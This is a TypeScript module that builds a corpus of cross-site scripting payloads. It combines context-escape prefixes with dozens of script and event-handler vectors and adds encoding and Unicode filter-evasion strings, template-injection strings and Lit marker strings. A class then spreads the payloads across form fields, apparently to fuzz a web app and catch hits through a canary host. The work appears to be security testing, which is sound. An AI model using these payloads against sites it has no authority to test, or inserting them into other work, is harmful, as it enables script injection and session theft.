/** What would run: a dialog, which a browser tells, or a call to somebody else's server. */
const RUN = 'alert()'
/** Nobody has this host; a request to it is a success of the attack. */
export const CANARY_HOST = 'xss.test'

/** Ways out of where a text stands: an attribute, an element without markup, a comment, a template, a script. */
const WAYS_OUT = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '`}', '"} ', ']]>', '</svg>', '\\">']

/** What runs once it is out, in few letters: fields are short. */
const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<iframe src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=//${CANARY_HOST}/e>`,
  `<img src=//${CANARY_HOST}/i>`,
  `<link rel=stylesheet href=//${CANARY_HOST}>`,
  `<style>@import'//${CANARY_HOST}'</style>`,
  `<meta http-equiv=refresh content="0;//${CANARY_HOST}">`,
  `<base href=//${CANARY_HOST}>`,
  `<form action=//${CANARY_HOST}><button autofocus>`,
  `<math><a xlink:href=javascript:${RUN}>x`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<b style="background:url(//${CANARY_HOST})">`,
]

/** Ways in without a tag: attributes, addresses, templates of this and of other libraries, markers that Lit uses itself. */
const WITHOUT_TAGS = [
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus x='`,
  ` onclick=${RUN} `,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u0000script:${RUN}`.replace('\u0000', ''),
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`.replace('\u0001', ''),
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `//${CANARY_HOST}/p`,
  `https://${CANARY_HOST}/p`,
  `\\\\${CANARY_HOST}\\p`,
  `/\\${CANARY_HOST}/p`,
  `url(//${CANARY_HOST})`,
  `\${${RUN}}`,
  `\`\${${RUN}}\``,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `{ $name }`,
  `{ "${RUN}" }`,
  '<!--?lit$0$-->',
  '<?lit$0$>',
  'lit$0$',
  '<!--?-->',
  `<!--><img src=x onerror=${RUN}>-->`,
  `';${RUN}//`,
  `";${RUN}//`,
  `\\';${RUN}//`,
  `</x><x y=`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u2039img src=x onerror=${RUN}\u203a`,
  `\u202e<img src=x onerror=${RUN}>`,
  `\u200b<svg onload=${RUN}>`,
  `\u2028<img src=x onerror=${RUN}>`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `<img src=x \u00a0onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg\nonload=${RUN}>`,
  `<<script>${RUN}//<</script>`,
  `<img src="x\`\`onerror=${RUN}">`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<scr<script>ipt>${RUN}</script>`,
]

/** Every payload of the corpus, each once: contexts times vectors, and what needs no tag. */
export function xssPayloads(): string[] {
  const grammar = WAYS_OUT.flatMap((out) => VECTORS.map((vector) => out + vector))
  const all = new Set([...grammar, ...WITHOUT_TAGS].map((payload) => payload.trim().replace(/\s+/g, ' ')))
  return [...all].filter((payload) => payload.length <= LONGEST)
}

/** Longer ones are the same with more letters, and the shortest fields would hold only one at a time. */
const LONGEST = 52

/**
 * Hands out texts for fields: each field gets the whole corpus over time, as many payloads at once as fit in it, each
 * with a number before it by which it is found again.
 */
export class PayloadTexts {
  readonly #payloads: readonly string[]
  readonly #places = new Map<string, number>()
  /** Every text that was handed out, by field. */
  readonly given: { readonly field: string; readonly text: string }[] = []

  constructor(payloads: readonly string[]) {
    this.#payloads = payloads
  }

  /** The next text for a field of at most so many characters. */
  next(field: string, most: number): string {
    let text = ''
    let place = this.#places.get(field) ?? 0
    for (;;) {
      const payload = this.#payloads[place % this.#payloads.length] ?? ''
      const more = `${text === '' ? '' : ' '}${MARK}${place % this.#payloads.length}${MARK}${payload}`
      if (text !== '' && (text + more).length > most) break
      text += more
      place += 1
      if (text.length >= most || place - (this.#places.get(field) ?? 0) >= this.#payloads.length) break
    }
    this.#places.set(field, place)
    const fitting = text.slice(0, most)
    this.given.push({ field, text: fitting })
    return fitting
  }

  /** Fields that have not had every payload yet. */
  get unfinished(): string[] {
    return [...this.#places].filter(([, place]) => place < this.#payloads.length).map(([field]) => field)
  }

  /** How many fields there are. */
  get fields(): number {
    return this.#places.size
  }
}

/** Stands around the number of a payload. */
export const MARK = '~'
